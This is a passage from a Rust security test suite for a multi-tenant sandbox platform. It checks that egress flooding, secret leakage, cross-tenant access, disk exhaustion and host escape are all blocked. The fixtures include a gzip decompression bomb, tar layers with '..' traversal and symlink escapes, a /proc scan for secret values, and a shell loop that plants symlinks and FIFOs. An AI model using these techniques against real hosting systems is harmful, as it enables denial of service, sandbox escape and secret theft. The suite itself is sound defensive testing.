        "import select, socket, time\nheld = []\nfor _ in range(100):\n    s = socket.create_connection(('127.0.0.1', 3128))\n    held.append(s)\nanswers = []\nfor s in held[:2]:\n    s.sendall(b'\\x16\\x03\\x01garbage\\r\\n\\r\\n')\n    answers.append(s.recv(64)[:12])\nlimited = 0\nwaiting = held[2:]\ndeadline = time.time() + 30\nwhile waiting and time.time() < deadline:\n    ready, _, _ = select.select(waiting, [], [], 1)\n    for s in ready:\n        limited += s.recv(64).startswith(b'HTTP/1.1 429')\n        waiting.remove(s)\nprint(answers, 'limited', limited, 'silent', len(waiting))",
    );
    let health = server.client().exchange("GET", "/v1/health", None).unwrap().0;
    let alive = proxied(&lister, "a.space.test:443");
    suite.check(
        "flood the egress proxy with connections and garbage",
        out.contains("[b'HTTP/1.1 400', b'HTTP/1.1 400']")
            && !out.contains("limited 0 ")
            && out.contains("silent 0")
            && health == 200
            && alive.contains("refused"),
        format!("{out} | {alive}"),
    );
    server.delete_sandbox(&public);
    server.delete_sandbox(&lister);

    // --- Secrets and ports ---
    let secret_value = format!("abuse-secret-{}", std::process::id());
    server.ok("PUT", "/v1/secrets/abuse-token", Some(json!({"value": secret_value, "hosts": ["api.space.test"]})));
    let binder = server.create_sandbox(json!({"template": "base", "network": {
        "egress": "allowlist", "allow": ["*.space.test"], "secrets": {"TOKEN": {"secret": "abuse-token"}}}}));
    let out = py(
        &server,
        &binder,
        "import os, urllib.request, urllib.error\ntry:\n    r = urllib.request.Request('http://x.space.test/', headers={'X-Key': os.environ['TOKEN']})\n    urllib.request.urlopen(r, timeout=20)\n    print('THROUGH')\nexcept urllib.error.HTTPError as e:\n    print('refused', e.code, e.headers.get('X-Space-Egress'))\nexcept Exception as e:\n    print('refused', e)",
    );
    suite.check(
        "send a secret's placeholder to a host it is not bound to",
        out.contains("refused 403 secret_not_for_host"),
        &out,
    );
    let (half, rest) = secret_value.split_at(6);
    let out = py(
        &server,
        &binder,
        &format!("import os\nneedle = b'{half}' + b'{rest}'\nhits = []\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        for f in ('environ', 'cmdline'):\n            try:\n                hits += [p] if needle in open(f'/proc/{{p}}/{{f}}', 'rb').read() else []\n            except OSError:\n                pass\nprint('HITS', hits, os.environ['TOKEN'][:9])"),
    );
    suite.check(
        "find a secret's value in the sandbox's environment or processes",
        out.contains("HITS [] space_ph_"),
        &out,
    );
    let listed = server.ok("GET", "/v1/secrets", None).to_string();
    let (single, body) = server.client().exchange("GET", "/v1/secrets/abuse-token", None).unwrap();
    suite.check(
        "read a secret's value back through the API",
        !listed.contains(&secret_value) && !body.contains(&secret_value) && single == 405,
        format!("{single} {body} {listed}"),
    );
    let (status, stolen) = server.call_as(
        &b_key,
        "POST",
        "/v1/sandboxes",
        Some(json!({"template": "base", "network": {"egress": "allowlist", "secrets": {"T": {"secret": "abuse-token"}}}})),
    );
    suite.check("bind another tenant's secret", status == 422, format!("{status} {stolen}"));
    let ceiling =
        space_server::store::Quotas { egress_ceiling: Some(vec!["*.space.test".into()]), ..Default::default() };
    let (_, bounded) = space_server::tenants::create_key(server.platform.store(), "bounded", Some(&ceiling)).unwrap();
    let (status, beyond) = server.call_as(
        &bounded,
        "POST",
        "/v1/sandboxes",
        Some(json!({"template": "base", "network": {"egress": "public"}})),
    );
    suite.check(
        "allow more than the tenant's egress ceiling",
        status == 422 && beyond["error"]["code"] == "egress_not_permitted",
        format!("{status} {beyond}"),
    );
    let headers_app = "import http.server\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        body = str(dict(self.headers)).encode()\n        self.send_response(200)\n        self.send_header('Content-Length', str(len(body)))\n        self.end_headers()\n        self.wfile.write(body)\nhttp.server.HTTPServer(('127.0.0.1', 8000), H).serve_forever()";
    let (status, app) = server.call(
        "POST",
        &format!("/v1/sandboxes/{binder}/commands"),
        Some(json!({"argv": ["python3", "-c", headers_app]})),
    );
    assert_eq!(status, 201, "{app}");
    let client = server.client();
    let get = |client: &space_client::Client, path: String| {
        client.exchange("GET", &path, None).unwrap_or_else(|e| panic!("GET {path}: {e}"))
    };
    let mut seen_headers = String::new();
    space_testkit::wait_until("the app in the sandbox", space_testkit::PATIENCE, || {
        let (status, body) = get(&client, format!("/v1/sandboxes/{binder}/ports/8000/"));
        seen_headers = body;
        status == 200
    });
    suite.check(
        "learn the API key from a server in the sandbox",
        !seen_headers.contains(&server.key) && !seen_headers.to_lowercase().contains("authorization"),
        &seen_headers,
    );
    let (status, _) = get(&server.client_as(&b_key), format!("/v1/sandboxes/{binder}/ports/8000/"));
    suite.check("reach another tenant's sandbox port", status == 404, status);
    let (status, body) = get(&client, format!("/v1/sandboxes/{binder}/ports/{api_port}/v1/health"));
    suite.check(
        "reach the host's API through the port proxy",
        status == 502 && body.contains("port_closed"),
        format!("{status} {body}"),
    );
    server.delete_sandbox(&binder);

    // --- Disk a tenant causes outside its roots ---
    let limits = &server.platform;
    limits.set_max_sandbox_output_bytes(16 << 20);
    let flooder = server.create_sandbox(json!({"template": "base"}));
    for _ in 0..8 {
        server.exec(&flooder, json!({"cmd": "head -c 4000000 /dev/zero", "timeout_s": 60}));
    }
    let kept = space_server::disk::tree_bytes(&data.data.sandbox_state_dir(&flooder).join("commands"));
    suite.check("fill the disk through the transcripts of many commands", kept <= 16 << 20, kept);
    server.delete_sandbox(&flooder);
    limits.set_max_sandbox_output_bytes(space_server::disk::DEFAULT_MAX_SANDBOX_OUTPUT_BYTES);

    let quotas = space_server::store::Quotas { max_disk_mib: Some(1100), ..Default::default() };
    let (_, hoarder) = space_server::tenants::create_key(server.platform.store(), "hoarder", Some(&quotas)).unwrap();
    let mut snapshots = Vec::new();
    let mut refused = None;
    for _ in 0..4 {
        let (status, created) = server.call_as(
            &hoarder,
            "POST",
            "/v1/sandboxes",
            Some(json!({"template": "base", "memory_mib": 256, "disk_mib": 256})),
        );
        if status != 202 {
            refused = Some(created);
            break;
        }
        let sid = created["sandbox"]["id"].as_str().unwrap().to_string();
        wait_as(&server, &hoarder, created["operation"]["id"].as_str().unwrap());
        let (status, suspending) = server.call_as(&hoarder, "POST", &format!("/v1/sandboxes/{sid}/suspend"), None);
        snapshots.push(sid);
        if status != 202 {
            refused = Some(suspending);
            break;
        }
        wait_as(&server, &hoarder, suspending["operation"]["id"].as_str().unwrap());
    }
    let usage = server.call_as(&hoarder, "GET", "/v1/usage", None).1;
    suite.check(
        "fill the disk through many suspend snapshots",
        refused.as_ref().is_some_and(|r| r["error"]["details"]["resource"] == "disk")
            && usage["disk"]["total_bytes"].as_u64().unwrap_or(u64::MAX) <= 1100 << 20,
        format!("{refused:?} {usage}"),
    );
    for sid in &snapshots {
        let _ = server.call_as(&hoarder, "DELETE", &format!("/v1/sandboxes/{sid}"), None);
    }

    // An image whose one layer is a 256 MiB file of zeros, gzip-compressed
    // a thousandfold, for a tenant with 64 MiB of disk.
    let quotas = space_server::store::Quotas { max_disk_mib: Some(64), ..Default::default() };
    let (_, small) = space_server::tenants::create_key(server.platform.store(), "small-disk", Some(&quotas)).unwrap();
    let work = std::env::temp_dir().join(format!("{marker}-bomb"));
    std::fs::create_dir_all(&work).unwrap();
    let layer = work.join("layer.tar");
    {
        let mut tar = tar::Builder::new(std::fs::File::create(&layer).unwrap());
        let mut header = tar::Header::new_gnu();
        header.set_size(256 << 20);
        header.set_mode(0o644);
        tar.append_data(&mut header, "zeros", std::io::repeat(0).take(256 << 20)).unwrap();
        tar.finish().unwrap();
    }
    let plain = work.join("image.tar");
    space_host::oci::write_archive(&plain, space_host::oci::ArchiveFormat::DockerSave, &[layer], &Default::default())
        .unwrap();
    let bomb = work.join("image.tar.gz");
    {
        let mut gz = flate2::write::GzEncoder::new(std::fs::File::create(&bomb).unwrap(), flate2::Compression::fast());
        std::io::copy(&mut std::fs::File::open(&plain).unwrap(), &mut gz).unwrap();
        gz.finish().unwrap();
    }
    let body = std::fs::read(&bomb).unwrap();
    let _ = std::fs::remove_dir_all(&work);
    let answer = server.early_answer(
        &format!(
            "POST /v1/templates?name=bomb HTTP/1.1\r\nAuthorization: Bearer {small}\r\nContent-Type: application/gzip"
        ),
        &body,
    );
    let accepted: serde_json::Value =
        serde_json::from_str(answer.split("\r\n\r\n").nth(1).unwrap_or("null")).unwrap_or_default();
    let done = wait_as(&server, &small, accepted["operation"]["id"].as_str().unwrap_or("op_none"));
    let usage = server.call_as(&small, "GET", "/v1/usage", None).1;
    suite.check(
        "fill the disk through an image that decompresses a thousandfold",
        done["state"] == "failed"
            && done["error"]["message"].as_str().is_some_and(|m| m.contains("decompresses to more than"))
            && usage["disk"]["total_bytes"] == 0,
        format!("{} | {done} | {usage}", answer.lines().next().unwrap_or("")),
    );
    // Layers that climb out: a `..` name, and a link to the host's /tmp
    // with a file written through it (which must land in the image's own).
    let escaped = std::env::temp_dir().join(format!("{marker}-layer"));
    let climb = format!("../../../../../../../..{}", escaped.display());
    let linked = format!("up/{marker}-layer");
    let mut outcomes = Vec::new();
    for (name, entries) in [
        ("climb", vec![(tar::EntryType::Regular, climb.as_str(), "")]),
        ("linked", vec![(tar::EntryType::Symlink, "up", "/tmp"), (tar::EntryType::Regular, linked.as_str(), "")]),
    ] {
        let layer = std::env::temp_dir().join(format!("{marker}-{name}.tar"));
        let mut tar = tar::Builder::new(std::fs::File::create(&layer).unwrap());
        for (kind, path, link) in entries {
            // Written into the header's bytes, as the tar crate refuses `..`.
            let mut header = tar::Header::new_old();
            header.set_entry_type(kind);
            header.set_mode(0o644);
            header.set_size(if kind.is_file() { 3 } else { 0 });
            header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
            header.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
            header.set_cksum();
            tar.append(&header, &b"out"[..if kind.is_file() { 3 } else { 0 }]).unwrap();
        }
        tar.finish().unwrap();
        drop(tar);
        let image = std::env::temp_dir().join(format!("{marker}-{name}.image.tar"));
        space_host::oci::write_archive(
            &image,
            space_host::oci::ArchiveFormat::DockerSave,
            std::slice::from_ref(&layer),
            &Default::default(),
        )
        .unwrap();
        let (_, accepted) = server.upload(&format!("/v1/templates?name=escape-{name}"), "application/x-tar", &image);
        let done = wait_as(&server, &server.key, accepted["operation"]["id"].as_str().unwrap_or("op_none"));
        outcomes.push(done["state"].as_str().unwrap_or("").to_string());
        let _ = std::fs::remove_file(layer);
        let _ = std::fs::remove_file(image);
    }
    let inside = data.root().join(format!("templates/escape-linked/1/rootfs/tmp/{marker}-layer"));
    suite.check(
        "write outside the build dir from an image's layers",
        outcomes == ["failed", "succeeded"] && !escaped.exists() && inside.is_file(),
        format!("{outcomes:?}, {} exists: {}", escaped.display(), escaped.exists()),
    );
    // The same layer uncompressed: the upload itself is over what is left.
    let answer = server.early_answer(
        &format!(
            "POST /v1/templates?name=big HTTP/1.1\r\nAuthorization: Bearer {small}\r\nContent-Type: application/x-tar"
        ),
        &vec![0u8; 48 << 20],
    );
    let uploads_left =
        std::fs::read_dir(server.platform.data().run_dir().join("uploads")).map(|d| d.count()).unwrap_or(0);
    suite.check(
        "fill the disk through an upload",
        answer.starts_with("HTTP/1.1 429") && answer.contains("\"resource\":\"disk\"") && uploads_left == 0,
        answer.lines().next().unwrap_or(""),
    );
    let (_, fills) = space_server::tenants::create_key(
        server.platform.store(),
        "builder",
        Some(&space_server::store::Quotas { max_disk_mib: Some(1), ..Default::default() }),
    )
    .unwrap();
    let build = json!({"name": "huge", "from": {"debian": {"suite": "bookworm", "packages": ["jq"]}}});
    let (status, refused) = server.call_as(&fills, "POST", "/v1/templates", Some(build));
    // With 1 MiB of quota and nothing held, the build may start, its root
    // capped at 1 MiB: it fails, and nothing stays.
    let held = if status == 202 {
        let done = wait_as(&server, &fills, refused["operation"]["id"].as_str().unwrap());
        done["state"] == "failed" && server.call_as(&fills, "GET", "/v1/usage", None).1["disk"]["total_bytes"] == 0
    } else {
        status == 429 && refused["error"]["details"]["resource"] == "disk"
    };
    suite.check("fill the disk through a template build", held, &refused);

    server.platform.set_disk_reserve_bytes(u64::MAX / 2);
    let (status, refused) = server.call("POST", "/v1/sandboxes", Some(json!({"template": "base"})));
    let still = server.exec(&other, json!({"argv": ["echo", "ok"]}));
    server.platform.set_disk_reserve_bytes(space_server::disk::DEFAULT_DISK_RESERVE_MIB << 20);
    suite.check(
        "fill the host's disk past its reserve",
        status == 507 && still["result"]["exit_code"] == 0,
        format!("{status} {refused}"),
    );

    // --- Links, FIFOs and directories where host code looks ---
    let planter = server.create_sandbox(json!({"template": "base"}));
    let canary = std::env::temp_dir().join(format!("{marker}-canary"));
    std::fs::create_dir_all(&canary).unwrap();
    std::fs::write(canary.join("keep"), "host data").unwrap();
    let plant = format!(
        "cd / && for d in root tmp var/tmp .space .space/host; do \
           for n in snapshot commands sock bundle rootfs rootfs.ext4 agent.sock checkpoint.img runsc.log config.json; do \
             ln -sfn {c} $d/$n-link 2>/dev/null; ln -sfn {c}/keep $d/$n 2>/dev/null; mkfifo $d/$n.fifo 2>/dev/null; \
             mkdir -p $d/$n.dir/deep 2>/dev/null && ln -sfn {c} $d/$n.dir/deep/up 2>/dev/null; \
           done; done; echo planted",
        c = canary.display()
    );
    assert_eq!(sh(&server, &planter, &plant).0, "planted\n");
    let intact = || {
        std::fs::read_to_string(canary.join("keep")).is_ok_and(|t| t == "host data")
            && std::fs::read_dir(&canary).map(|d| d.count()).unwrap_or(0) == 1
    };
    server.stop();
    let server = TestServer::start(&data);
    let after = sh(&server, &planter, "ls /root | wc -l").0;
    suite.check(
        "plant links, FIFOs and directories, then restart the server",
        intact() && after.trim().parse::<u32>().unwrap_or(0) > 10,
        &after,
    );
    let (_, suspending) = server.call("POST", &format!("/v1/sandboxes/{planter}/suspend"), None);
    let suspended = server.wait_operation(suspending["operation"]["id"].as_str().unwrap());
    let (_, resuming) = server.call("POST", &format!("/v1/sandboxes/{planter}/resume"), None);
    let resumed = server.wait_operation(resuming["operation"]["id"].as_str().unwrap());
    let after = sh(&server, &planter, "echo back").0;
    suite.check(
        "plant links, FIFOs and directories, then suspend and resume",
        intact() && suspended["state"] == "succeeded" && resumed["state"] == "succeeded" && after == "back\n",
        format!("{suspended} {resumed}"),
    );
    let deleted = server.delete_sandbox(&planter);
    suite.check(
        "plant links, FIFOs and directories, then delete",
        intact() && deleted["state"] == "succeeded" && !data.data.sandbox_dir(&planter).exists(),
        &deleted,
    );
    let _ = std::fs::remove_dir_all(&canary);

    suite.tally();
    drop(listener);
    let _ = std::fs::remove_file(&host_file);
    assert!(suite.attempts.len() >= 50, "the suite tries at least 50 things");
    suite.assert_all_held();
}
